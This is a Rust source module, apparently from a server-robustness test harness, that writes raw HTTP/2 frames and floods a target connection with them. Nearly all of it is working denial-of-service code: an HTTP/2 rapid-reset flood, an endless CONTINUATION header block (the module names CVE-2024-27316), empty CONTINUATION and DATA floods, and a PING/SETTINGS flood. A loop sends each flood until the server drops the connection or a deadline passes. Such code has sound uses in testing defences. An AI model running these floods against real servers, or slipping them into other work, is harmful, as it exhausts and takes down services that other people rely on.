//! HTTP/2, frame by frame: streams that are reset as fast as they are opened, header blocks that never end, and
//! frames that only keep a server busy.
//!
//! Each flood is a function that gives what is said first, second, third …

use std::io;
use std::net::SocketAddr;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};

use super::{End, stranger};
use crate::DEADLINE;

/// What a client says first.
pub const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// Types of frames, and flags (RFC 9113, 6).
const DATA: u8 = 0;
/// Opens a stream.
pub const HEADERS: u8 = 1;
/// Ends it at once.
pub const RST_STREAM: u8 = 3;
/// Must come after the preface.
pub const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const END_STREAM: u8 = 1;
/// Of `HEADERS`: no continuation follows.
pub const END_HEADERS: u8 = 4;
/// No flag.
pub const NONE: u8 = 0;

/// A frame. The payload is shorter than 16 MiB.
#[must_use]
pub fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len())
        .unwrap_or(u32::MAX)
        .to_be_bytes();
    let stream = stream.to_be_bytes();
    [&length[1..], &[kind, flags], &stream, payload].concat()
}

/// POST, http, and the path `/in/other`, in HPACK without a table.
#[must_use]
pub fn post() -> Vec<u8> {
    let path = b"/in/other";
    [&[0x83, 0x86, 0x04, 9][..], path].concat()
}

/// The stream of the `number`th request.
#[must_use]
pub const fn stream(number: u32) -> u32 {
    2 * number + 1
}

/// Opens a connection and goes on saying what `frames` makes of 0, 1, 2 …, until it is cut off.
///
/// # Errors
/// When the connection cannot be opened.
pub async fn flood(to: SocketAddr, frames: impl Fn(u32) -> Vec<u8>) -> io::Result<End> {
    let (mut from, mut into) = stranger(to).await?.into_split();
    into.write_all(&[PREFACE, &frame(SETTINGS, NONE, 0, &[])].concat())
        .await?;
    let talking = async move {
        for number in 0.. {
            into.write_all(&frames(number)).await?;
            // Others have their turn: there are two processors for both sides.
            tokio::task::yield_now().await;
        }
        Ok::<_, io::Error>(())
    };
    let reading = async {
        let mut scratch = [0; 4 << 10];
        while from.read(&mut scratch).await.is_ok_and(|read| read > 0) {}
    };
    let over = async {
        tokio::select! {
            broken = talking => drop(broken),
            () = reading => {}
        }
    };
    let over = tokio::time::timeout(DEADLINE, over).await;
    Ok(over.map_or(End::Never, |()| End::Cut))
}

/// Streams that are reset in the same write, before the server can take notice of them.
#[must_use]
pub fn rapid_reset(number: u32) -> Vec<u8> {
    let opened_and_reset = (0..100).map(|each| {
        let stream = stream(100 * number + each);
        let opened = frame(HEADERS, END_HEADERS | END_STREAM, stream, &post());
        let reset = frame(RST_STREAM, NONE, stream, &8_u32.to_be_bytes());
        [opened, reset].concat()
    });
    opened_and_reset.collect::<Vec<_>>().concat()
}

/// A header block that no frame ends (CVE-2024-27316 and its kin).
#[must_use]
pub fn continuations(number: u32) -> Vec<u8> {
    // A literal of 1,000 bytes, never the same name twice.
    let name = format!("x-{number:08}");
    let value = "x".repeat(1_000);
    let length = [0x7f, 0xe9, 0x06];
    let name = [&[0x00, 10][..], name.as_bytes()].concat();
    match number {
        0 => frame(HEADERS, END_STREAM, 1, &post()),
        _ => {
            let header = [&name, &length[..], value.as_bytes()].concat();
            frame(CONTINUATION, NONE, 1, &header)
        }
    }
}

/// Continuations with nothing in them, which cost nothing and never end.
#[must_use]
pub fn empty_continuations(number: u32) -> Vec<u8> {
    match number {
        0 => frame(HEADERS, END_STREAM, 1, &post()),
        _ => frame(CONTINUATION, NONE, 1, &[]).repeat(100),
    }
}

/// A body of empty pieces: there is always something to read, and nothing comes.
#[must_use]
pub fn empty_data(number: u32) -> Vec<u8> {
    match number {
        0 => frame(HEADERS, END_HEADERS, 1, &post()),
        _ => frame(DATA, NONE, 1, &[]).repeat(100),
    }
}

/// Frames that want an answer each, on a connection that never asks for anything.
#[must_use]
pub fn pings_and_settings(_: u32) -> Vec<u8> {
    let both = [frame(PING, NONE, 0, &[0; 8]), frame(SETTINGS, NONE, 0, &[])];
    both.concat().repeat(50)
}
